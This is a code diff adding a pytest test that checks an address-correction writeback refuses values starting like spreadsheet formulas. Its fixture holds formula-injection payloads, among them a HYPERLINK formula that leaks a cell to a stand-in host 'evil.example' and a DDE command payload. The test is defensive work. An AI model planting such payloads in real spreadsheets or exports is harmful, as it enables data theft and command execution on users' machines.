@@ -17,6 +17,7 @@ from fileio.address_service.corrections import (
     review_reasons,
     writeback_edits,
 )
+from fileio.writeback_policy import FORMULA_REFUSED
 
 # ShortReport positions (§2.5): 8 StreetName, 9 HouseNo, 10 HouseNoAddition, 12 ZIPCode, 14 TownName.
 BLANK = "-" * 24
@@ -285,3 +286,38 @@ def test_results_without_a_correction_type_write_no_correction_back() -> None:
     assert edits == {}
     assert kept.answer == "QSTAT 1, CorrectionType none"
     assert kept.reason == "the CorrectionType does not say a correction is required"
+
+
+FORMULAS = {
+    "Streetname": '=HYPERLINK("http://evil.example/?leak="&A1,"Lindenstrasse")',
+    "TownName": "=cmd|'/C calc'!A0",
+    "HouseNo": "+1+1",
+    "ZIPCode": "@SUM(1+1)",
+}
+
+
+@pytest.mark.parametrize("split", [False, True])
+def test_a_correction_that_starts_like_a_formula_is_listed_never_written(split: bool) -> None:
+    marks = report(street="3", house="3", zip="3", town="3")
+    # A leading minus too, even where a house number might have one.
+    second = row("1", report(house="3", town="3"), HouseNo="-2+3", TownName="\tLuzern")
+    frame = merged([row("1", marks, **FORMULAS), second])
+    corrections = classify(frame)
+    fields = {"Streetname": "Strasse", "HouseNo": "Nr", "ZIPCode": "PLZ", "TownName": "Ort"}
+    if split:
+        fields = {"Streetname": "Adresse", "ZIPCode": "PLZ", "TownName": "Ort"}
+
+    edits, skipped = writeback_edits(
+        corrections, fields, "corrections", split_lines={1: "Lindenstrasse 12"} if split else None
+    )
+
+    # A split street cell gets the street and number it held: every part of its correction was refused.
+    assert edits == ({1: {"Adresse": "Lindenstrasse 12"}} if split else {})
+    given = {"Streetname": "Lindenstrasse", "HouseNo": "12", "ZIPCode": "6010", "TownName": "Kriens"}
+    answer = "QSTAT 1, CorrectionType 1"
+    expected = [
+        Skipped(1, field, FORMULA_REFUSED, answer, given[field], value) for field, value in FORMULAS.items()
+    ]
+    expected.append(Skipped(2, "HouseNo", FORMULA_REFUSED, answer, "12", "-2+3"))
+    expected.append(Skipped(2, "TownName", FORMULA_REFUSED, answer, "Kriens", "\tLuzern"))
+    assert sorted(skipped, key=repr) == sorted(expected, key=repr)
